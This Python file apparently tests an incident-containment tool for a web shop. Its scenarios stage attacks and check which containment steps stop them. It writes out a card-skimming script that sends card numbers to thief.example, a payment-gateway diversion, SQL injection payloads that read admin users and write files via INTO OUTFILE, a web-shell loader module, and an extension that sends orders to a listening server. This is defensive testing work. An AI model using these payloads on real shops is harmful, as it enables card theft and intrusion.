"""Stories of pages, files, requests and payments; and the list of all."""
import http.server
import json
import os
import shutil
import threading
import urllib.parse

import playbook_accounts
from contain import HOSTS_OF
from contain_database import begins
from contain_runs import CLEAN, SKIMMER, drop
from playbook_story import ATTACKER, CACHED, CARD, ELSEWHERE, Module, Story, bought, nothing


def stories(runs, shop, started):
    """One of each shipped playbook at least."""
    told = [attacking, playbook_accounts.administrator, playbook_accounts.api_token, card_testing, playbook_accounts.database_account,
            playbook_accounts.needed_account, playbook_accounts.shops_account, gateway, playbook_accounts.insider, playbook_accounts.key,
            lambda *on: playbook_accounts.key(*on, is_patched=False), playbook_accounts.log_tampering, playbook_accounts.sessions, playbook_accounts.trigger, extension, job, skimmer_row, skimmer_file, unknown, injection, written, stray_file, stray_row, web_shell]
    return [story(runs, shop, started) for story in told]


def attacking(runs, shop, started):
    """Somebody looks for holes; from another address nothing keeps them from it."""
    let_in = lambda source: lambda: shop.asked("de.shop.test", "/", source=source)[0] == 200
    ways = {"requests from its address": let_in(ATTACKER), "requests from another": let_in(ELSEWHERE)}
    return Story("address-that-attacks", {"network": ATTACKER}, plant=nothing, clear=nothing, plan_stops="only_mitigates", ways=ways,
                 closes={"Refuse the address": {"requests from its address"}})


def card_testing(runs, shop, started):
    """Cards are tried by orders; the gateway that would refuse them isn't there."""
    tried = lambda source, method: lambda: bought(shop, "de", source, method, cc_number=CARD) is not None
    ways = {"cards from its address": tried(ATTACKER, "hosted"), "cards from another": tried(ELSEWHERE, "hosted"), "by another method": tried(ELSEWHERE, "checkmo")}
    return Story(
        "card-testing", {"network": ATTACKER, "method": "hosted", "website": "base"}, plant=nothing, clear=nothing, plan_stops="only_mitigates", ways=ways,
        closes={"Refuse the address": {"cards from its address"}, "Clean the cached settings": {"cards from another"}},
        by_hand={"Clean the cached settings": (shop.flush_entries, None)}, answers={"goes_on": ways["cards from another"]})


def planted(shop, statements):
    """Rows as an attacker leaves them, and what is cached made anew."""
    return lambda: (shop.sql(f"use shop; {statements}"), shop.flush_entries())


def good(runs, row, **columns):
    """What a person keeps for `revert_row`."""
    (runs.good / f"{row}.json").write_text(json.dumps(columns))


def setting(shop, path):
    return shop.sql(f"select config_id from shop.mg_core_config_data where path = '{path}' and scope = 'default'").strip()


def gateway(runs, shop, started):
    """The gateway's address was changed; for fr a second time, in a row that nobody named."""
    shop.sql("insert into shop.mg_core_config_data (path, value, updated_at) values ('payment/hosted/gateway_url', 'http://js.gateway.test/pay', '2026-02-03')")
    key = setting(shop, "payment/hosted/gateway_url")
    good(runs, f"core_config_data:{key}", value="http://js.gateway.test/pay")
    of_fr = "scope = 'stores' and scope_id = 2 and path = 'payment/hosted/gateway_url'"
    plant = planted(shop, f"update mg_core_config_data set value = 'https://pay.thief.example/in', updated_at = '2026-08-05 10:15:03' where config_id = {key}; "
                    "insert into mg_core_config_data (scope, scope_id, path, value) values ('stores', 2, 'payment/hosted/gateway_url', 'https://pay.thief.example/fr')")
    clear = planted(shop, f"update mg_core_config_data set value = 'http://js.gateway.test/pay', updated_at = '2026-02-03' where config_id = {key}; delete from mg_core_config_data where {of_fr}")

    def sent(view, order):
        return order is not None and "thief.example" in (shop.asked(HOSTS_OF[view], f"/hosted/redirect?order={order}")[1]["Location"] or "")

    new = lambda view: lambda: sent(view, bought(shop, view, ELSEWHERE, "hosted"))
    ways = {"an order's payment": new("de"), "one that was begun": lambda: sent("de", 1), "an order's of fr, by another row": new("fr")}
    named, other = {"an order's payment", "one that was begun"}, "an order's of fr, by another row"
    return Story(
        "gateway-diversion", {"row": f"core_config_data:{key}", "website": "base", "method": "hosted"}, plant=plant, clear=clear, ways=ways,
        closes={"Empty the caches": named, "Empty the caches again": {other}}, excused={"Put the row back": {**{way: CACHED for way in named}, other: "Switch the payment method off"}},
        answers={"goes_on": lambda: any(way() for way in ways.values())})


def skimmer_row(runs, shop, started):
    """A skimmer in the head of every page; on fr's checkout a second one, in a block that nobody named."""
    key = setting(shop, "design/head/includes")
    good(runs, f"core_config_data:{key}", value=CLEAN)
    block = "mg_cms_block where identifier = 'checkout_note' and block_id > 1"
    plant = planted(shop, f"update mg_core_config_data set value = '{SKIMMER}', updated_at = '2026-08-05 10:15:03' where config_id = {key}; "
                    f"insert into mg_cms_block (identifier, content, is_active) values ('checkout_note', '{SKIMMER}', 1); insert into mg_cms_block_store values (last_insert_id(), 2)")
    clear = planted(shop, f"update mg_core_config_data set value = '{CLEAN}', updated_at = '2026-02-03' where config_id = {key}; "
                    f"delete from mg_cms_block_store where block_id in (select block_id from {block}); delete from {block}")
    skims = lambda host, path: lambda: "evil.example" in shop.ask(host, path)[2]
    ways = {"us's first page": skims("us.shop.test", "/"), "fr's first page": skims("fr.shop.test", "/"), "a block of fr's checkout": skims("fr.shop.test", "/checkout/")}
    named, other = {"us's first page", "fr's first page"}, "a block of fr's checkout"
    works = lambda: any(way() for way in ways.values())
    return Story(
        "skimmer-in-configuration-or-cms", {"row": f"core_config_data:{key}", "view": "fr", "website": "base", "method": "hosted"}, plant=plant, clear=clear, ways=ways,
        closes={"Empty the caches": named, "Close the view": {other}}, excused={"Put the row back": {**{way: CACHED for way in named}, other: "Close the view"}},
        answers={"goes_on": works, "is_clean": works}, closed_views=frozenset({"fr"}))


def unknown(runs, shop, started):
    """A skimmer on the first pages of two views; one of them is closed, and in neither is it found."""
    key = setting(shop, "design/head/includes")
    plant = planted(shop, f"update mg_core_config_data set value = '{SKIMMER}', updated_at = '2026-08-05 10:15:03' where config_id = {key}")
    clear = planted(shop, f"update mg_core_config_data set value = '{CLEAN}', updated_at = '2026-02-03' where config_id = {key}")
    skims = lambda host: lambda: "evil.example" in shop.ask(host, "/")[2]
    ways = {"us's first page": skims("us.shop.test"), "fr's first page": skims("fr.shop.test")}
    return Story("store-that-leaks", {"view": "fr"}, plant=plant, clear=clear, plan_stops="only_mitigates", ways=ways, closes={"Close the view": {"fr's first page"}},
                 closed_views=frozenset({"fr"}))


def skimmer_file(runs, shop, started):
    """A script of every checkout was changed; another one, that only fr's loads, too, and nobody knows of that."""
    script, other = shop.root / "pub/static/checkout.js", shop.root / "pub/static/fr.js"
    was, thief = shop.folder / "checkout.js", "new Image().src = '//thief.example/?' + card.value;\n"
    clean = shop.folder / "good-files/pub/static/checkout.js"
    clean.parent.mkdir(parents=True)
    shutil.copy(script, clean)

    def plant():
        shutil.copy2(script, was)
        script.write_text(was.read_text() + thief)
        os.utime(script, ns=(1, 1_700_000_000_123_456_789))
        other.write_text(thief)
        shop.sql("use shop; insert into mg_layout_update (handle, xml, updated_at) values ('checkout_index_index', '<script src=\"/static/fr.js\"/>', '2026-02-03'); "
                 "insert into mg_layout_link (store_id, layout_update_id) values (2, last_insert_id());")

    def clear():
        os.replace(was, script)
        other.unlink()
        shop.sql("use shop; delete from mg_layout_update; delete from mg_layout_link;")

    def skims(host, path):
        status, _, page = shop.ask(host, "/checkout/")
        return status == 200 and path in page and "thief.example" in shop.ask(host, path)[2]

    ways = {"de's checkout": lambda: skims("de.shop.test", "/static/checkout.js"), "another script, of fr": lambda: skims("fr.shop.test", "/static/fr.js")}
    return Story(
        "skimmer-in-files", {"file": "pub/static/checkout.js", "view": "fr"}, plant=plant, clear=clear, ways=ways,
        closes={"Put the file back": {"de's checkout"}, "Close the view": {"another script, of fr"}},
        excused={"Put the file back": {"another script, of fr": "Close the view"}}, answers={"goes_on": lambda: any(way() for way in ways.values())},
        closed_views=frozenset({"fr"}))


LOADER = """<?php return fn ($all) => ['routes' => ['V1/loader' => function ($get) {
    $file = dirname(__DIR__, 4) . '/pub/media/x.php';
    ob_start();
    is_file($file) && include $file;
    return ob_get_clean();
}]];
"""


def web_shell(runs, shop, started):
    """A file that runs, asked for at its own address and by a module that includes it."""
    loader, path = Module(shop, "Evil_Loader", LOADER), shop.root / "pub/media/x.php"
    runs_at = lambda path, source: lambda: "ran:1" in shop.asked("de.shop.test", path, source=source)[2]

    def plant():
        drop(shop)
        loader.plant()

    def clear():
        path.unlink()
        loader.clear()

    own = {"its own path, from its address": runs_at("/media/x.php?c=1", ATTACKER), "its own path, from another": runs_at("/media/x.php?c=1", ELSEWHERE)}
    included = "an entry point that includes it"
    return Story(
        "web-shell", {"file": "pub/media/x.php", "network": ATTACKER}, plant=plant, clear=clear, ways={**own, included: runs_at("/rest/V1/loader?c=1", ELSEWHERE)},
        closes={"Refuse PHP outside the entry points": set(own), "Move the file away": {included}})


SEARCH = """<?php return fn ($all) => ['routes' => ['V1/search' => fn ($get) => $all(%s)]];
"""
HOLE = """"select sku, price from mg_catalog_product_entity where sku like '{$get['q']}%'\""""
MENDED = "'select sku, price from mg_catalog_product_entity where sku like ?', [$get['q'] . '%']"


def mending(shop, search):
    """The hole is closed by hand; and opened again."""
    aside = shop.folder / "search.php"

    def mend():
        fresh = shop.folder / "mended.php"
        fresh.write_text(SEARCH % MENDED)
        os.link(search.path, aside)
        os.replace(fresh, search.path)

    return mend, lambda: os.replace(aside, search.path)


def written(runs, shop, started):
    """The same hole, with an account that may write files: a statement leaves one that the web server runs."""
    search = Module(shop, "Shop_Search", SEARCH % HOLE)
    place, path = shop.folder / "mysql" / "left.php", "/rest/de/V1/search"
    union = "zz' union select username, 'stolen' from mg_admin_user"
    asked = lambda statement: shop.asked("de.shop.test", f"{path}?q={urllib.parse.quote(statement)}", source=ELSEWHERE)[2]

    def writes():
        place.unlink(missing_ok=True)
        asked(f"{union} into outfile '{place}' -- ")
        return place.exists()

    def plant():
        search.plant()
        shop.sql("grant file on *.* to shop@localhost; grant file on *.* to containment@localhost with grant option")

    def clear():
        search.clear()
        place.unlink(missing_ok=True)
        shop.sql("revoke file on *.* from shop@localhost; revoke file, grant option on *.* from containment@localhost")

    ways = {"rows are read": lambda: "stolen" in asked(f"{union} -- "), "a file is written": writes}
    return Story(
        "sql-injection", {"route": "/rest/V1/search", "network": ATTACKER, "has_file": "true", "account": "shop@localhost"}, variant="with FILE", plant=plant, clear=clear,
        ways=ways, closes={"Take the right to files away": {"a file is written"}, "Mend what lets it through": set(ways)},
        by_hand={"Mend what lets it through": mending(shop, search)})


def injection(runs, shop, started):
    search = Module(shop, "Shop_Search", SEARCH % HOLE)
    question = urllib.parse.quote("zz' union select username, 'stolen' from mg_admin_user -- ")
    steals = lambda path, source: lambda: "stolen" in shop.asked("de.shop.test", f"{path}?q={question}", source=source)[2]
    ways = {"the path": steals("/rest/V1/search", ELSEWHERE), "a view's path, from its address": steals("/rest/de/V1/search", ATTACKER),
            "a view's path, from another": steals("/rest/de/V1/search", ELSEWHERE)}

    return Story(
        "sql-injection", {"route": "/rest/V1/search", "network": ATTACKER}, plant=search.plant, clear=search.clear, ways=ways,
        closes={"Refuse the path": {"the path"}, "Refuse the address": {"a view's path, from its address"}, "Mend what lets it through": set(ways)},
        by_hand={"Mend what lets it through": mending(shop, search)})


STATS = """<?php return fn ($all) => [
    'routes' => ['V1/stats' => fn ($get) => $all('select username, "stolen" from mg_admin_user')],
    'placed' => fn ($body) => @file_get_contents('http://127.0.0.1:%d/', false, stream_context_create(['http' => ['method' => 'POST', 'content' => json_encode($body), 'timeout' => 2]])),
];
"""


class Thief:
    """Somebody who takes what is sent to them."""

    def __init__(self):
        taken = self.taken = []

        class Take(http.server.BaseHTTPRequestHandler):
            def do_POST(self):
                taken.append(self.rfile.read(int(self.headers["Content-Length"])))
                self.send_response(204)
                self.end_headers()

            def log_message(self, *_):
                pass

        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Take)
        threading.Thread(target=self.server.serve_forever, daemon=True).start()


def extension(runs, shop, started):
    thief, times = Thief(), iter(range(1_000_000))
    stats = Module(shop, "Evil_Stats", STATS % thief.server.server_port)
    opens = lambda path: lambda: "stolen" in shop.asked("de.shop.test", path, source=ELSEWHERE)[2]

    def sent():
        mark = f"mark-{next(times)}"
        bought(shop, "de", ELSEWHERE, po_number=mark)
        return any(mark.encode() in taken for taken in thief.taken)

    ways = {"its way in": opens("/rest/V1/stats"), "its way in by a view's path": opens("/rest/de/V1/stats"), "orders are sent out": sent}
    return Story(
        "malicious-extension", {"file": stats.below, "route": "/rest/V1/stats"}, plant=stats.plant, clear=stats.clear, ways=ways,
        closes={"Refuse the path": {"its way in"}, "Switch the module off": set(ways)},
        by_hand={"Switch the module off": (lambda: stats.switch(0), lambda: stats.switch(1))})


def job(runs, shop, started):
    """A row has cron run a class that isn't the shop's."""
    shop.sql("insert into shop.mg_core_config_data (path, value, updated_at) values ('crontab/default/jobs/sales_export/run/model', 'Magento\\\\Sales\\\\Cron\\\\Export::execute', '2026-02-03')")
    key = setting(shop, "crontab/default/jobs/sales_export/run/model")
    clean = shop.sql(f"select value from shop.mg_core_config_data where config_id = {key}").strip().replace("\\\\", "\\")
    good(runs, f"core_config_data:{key}", value=clean)
    planted_job = lambda value, at: planted(shop, f"update mg_core_config_data set value = '{value}', updated_at = '{at}' where config_id = {key}")
    named = lambda: "Thief" in shop.sql(f"select value from shop.mg_core_config_data where config_id = {key}")
    begun, row = "cron begins it", "the row names their class"
    return Story(
        "job-planted", {"job": "sales_export", "row": f"core_config_data:{key}"}, plant=planted_job("Thief::run", "2026-08-05 10:15:03"), clear=planted_job(clean.replace("\\", "\\\\"), "2026-02-03"),
        ways={begun: lambda: begins(shop, "sales_export"), row: named}, closes={"Hold the job": {begun}, "Put the row back": {row}})


def stray_file(runs, shop, started):
    """A debug setting of one view writes what is paid with into a log."""
    log = shop.root / "var/log/payment.log"
    row = "scope = 'stores' and scope_id = 3 and path = 'payment/hosted/debug'"
    switch = lambda on: planted(shop, f"update mg_core_config_data set value = '{on}', updated_at = '2026-08-05 10:15:03' where {row}")

    def plant():
        planted(shop, "insert into mg_core_config_data (scope, scope_id, path, value, updated_at) values ('stores', 3, 'payment/hosted/debug', '1', '2026-08-05 10:15:03')")()
        log.parent.mkdir(parents=True, exist_ok=True)
        log.write_text(f'{{"cc_number":"{CARD}"}}\n')
        log.parent.chmod(0o777)
        log.chmod(0o666)

    def clear():
        planted(shop, f"delete from mg_core_config_data where {row}")()
        log.unlink()

    def written():
        """Tried, and what it wrote taken out again, so that undoing can be compared."""
        about = log.stat() if log.exists() else None
        before = log.read_bytes() if about else b""
        bought(shop, "us", ELSEWHERE, cc_number=CARD)
        now = log.read_bytes() if log.exists() else b""
        if about is None:
            log.unlink(missing_ok=True)
        elif now != before:
            with open(log, "r+b") as file:
                file.truncate(len(before))
            os.utime(log, ns=(about.st_atime_ns, about.st_mtime_ns))
        return CARD.encode() in now[len(before):]

    new, lies = "more is written", "it lies in the file"
    return Story(
        "stray-card-data", {"where": "file", "file": "var/log/payment.log"}, variant="a file", plant=plant, clear=clear,
        ways={new: written, lies: lambda: log.exists() and CARD in log.read_text()},
        closes={"Switch off what writes it": {new}, "Move the file away": {lies}}, excused={"Switch off what writes it": {lies: "Move the file away"}},
        by_hand={"Switch off what writes it": (switch(0), switch(1))}, closed_views=frozenset({"us"}))


def stray_row(runs, shop, started):
    clean = shop.sql("select content from shop.mg_cms_page where page_id = 1").strip()
    good(runs, "cms_page:1", content=clean)
    to = lambda text, at: planted(shop, f"update mg_cms_page set content = '{text}', update_time = '{at}' where page_id = 1")
    lies = "it lies on the page"
    return Story(
        "stray-card-data", {"where": "row", "row": "cms_page:1"}, variant="a row", plant=to(f"{clean}<p>{CARD}</p>", "2026-08-05 10:15:03"), clear=to(clean, "2026-02-03"),
        ways={lies: lambda: CARD in shop.ask("de.shop.test", "/")[2]}, closes={"Find its copies": {lies}},
        excused={"Switch off what writes it": {lies: "Put the row back"}}, by_hand={"Find its copies": (shop.flush_entries, None)})
